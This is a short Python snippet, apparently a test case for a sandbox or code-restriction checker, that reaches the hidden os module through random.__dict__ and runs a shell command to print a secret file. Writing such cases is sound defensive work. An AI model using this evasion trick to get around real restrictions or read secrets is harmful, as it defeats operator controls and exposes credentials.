# A module's __dict__ holds what its attributes hide.
# effect: run
import random
random.__dict__["_os"].system("cat @SECRET@")
